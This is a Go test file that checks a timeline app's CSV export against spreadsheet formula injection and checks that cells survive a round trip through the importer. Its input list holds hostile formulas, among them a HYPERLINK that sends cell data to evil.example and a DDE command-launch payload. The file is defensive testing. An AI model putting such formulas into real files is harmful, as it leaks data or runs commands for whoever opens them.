package data

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"

	"timeline/locale"
	"timeline/model"
)

// runsAsFormula matches a cell a spreadsheet could run: a formula sign
// first, or after spaces, tabs or carriage returns.
var runsAsFormula = regexp.MustCompile(`^[ \t\r\n]*[=+\-@]|^[\t\r]`)

// plainNumber matches a cell that is a number, which must stay one.
var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// TestCSVFormulaInjection: with a formula in every field, no cell of the
// sheet starts like one; numbers and years (negative ones included) are
// left as they are; and the sheet's importer gives back every text as it
// was, a quote of the user's own included.
func TestCSVFormulaInjection(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?d="&A1,"click")`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\t\r@x", `+1+1`,
		`-1+1`, `=cmd|' /C calc'!A0`, ` =1+1`, "  \t-2+3", `=`, `-`, `@`, `+`, `'=1+1`, `''@x`, `'plain`, `-`,
		`- a list`, `-44`, `3.5`, `-3.5`, `1+1`,
	}
	fields := func(s string) string { return strings.Join(strings.Fields(clean(s, false)), " ") }
	for _, h := range hostile {
		ds := exportDataset(func(string) string { return h })
		b, err := ExportCSV(ds, locale.English)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows[1:] {
			for i, c := range r {
				if runsAsFormula.MatchString(c) && !plainNumber.MatchString(c) {
					t.Errorf("%q: column %s is %q, which a spreadsheet runs", h, rows[0][i], c)
				}
			}
		}
		back, _, err := Parse("export.csv", b)
		if err != nil {
			t.Fatal(err)
		}
		if got := fields(back.Title.En); got != fields(h) {
			t.Errorf("%q: title back as %q", h, back.Title.En)
		}
		for _, e := range back.Events {
			switch {
			case fields(e.Title.En) != fields(h):
				t.Errorf("%q: headline back as %q", h, e.Title.En)
			case e.Approximate && fields(e.DateLabel().En) != fields(h):
				t.Errorf("%q: date label back as %q", h, e.DateLabel().En)
			}
		}
		if len(back.Eras) != 1 || fields(back.Eras[0].Label.En) != fields(h) {
			t.Errorf("%q: eras back as %+v", h, back.Eras)
		}
	}

	// A year before the common era (which the importers refuse, but a
	// dataset built in code can hold) goes out as a number.
	ds := &model.Dataset{Events: []model.Event{{ID: "ides", Date: model.NewDate(-44, 3, 15), Title: model.Plain("Ides of March")}}}
	ds.Index()
	b, err := ExportCSV(ds, locale.English)
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if ides := rows[2]; ides[0] != "-44" || ides[1] != "3" || ides[2] != "15" {
		t.Errorf("the Ides of March went out as %q", ides[:3])
	}
}

// TestCSVCellBack: csvCell quotes what a spreadsheet could run, spaces
// before it included (no export writes a cell with leading spaces today:
// the texts are trimmed), and csvCellBack removes exactly the quote
// csvCell adds.
func TestCSVCellBack(t *testing.T) {
	for s, want := range map[string]string{" =1": "' =1", "\n@x": "'\n@x", " \t+1": "' \t+1", "\t1": "'\t1",
		"-7": "-7", "-7.25": "-7.25", "- 7": "'- 7", "-7e3": "'-7e3", "1-1": "1-1", "'x": "'x", "'-": "''-"} {
		if got := csvCell(s); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", s, got, want)
		}
	}
	for _, s := range []string{"", "'", "''", "=", "'=", "''=", "'x", "x", "-1", "'-1", "-1-", "' =", "'\t@", "a'=b"} {
		if got := csvCellBack(csvCell(s)); got != s {
			t.Errorf("csvCellBack(csvCell(%q)) = %q", s, got)
		}
	}
}
